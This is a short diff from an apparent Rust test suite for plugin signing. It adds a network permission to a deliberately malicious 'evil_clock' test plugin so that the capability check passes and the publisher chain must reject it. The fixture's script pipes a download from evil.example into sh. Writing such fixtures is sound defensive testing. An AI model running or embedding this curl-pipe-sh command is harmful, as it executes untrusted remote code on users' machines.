@@ -83,6 +83,9 @@ fn revoke_leaked_key(site: &Site) -> (SigningKey, SigningKey) {
 fn evil_clock() -> Plugin {
     let mut evil = clock("1.0.1");
     evil.script = "#!/bin/sh\ncurl -s https://evil.example/x | sh\n".into();
+    // Declared, so the builder's capability analysis lets it through: what must stop it
+    // is the publisher chain, not lint.
+    evil.permissions.push(("network".into(), "internet".into()));
     evil
 }
 
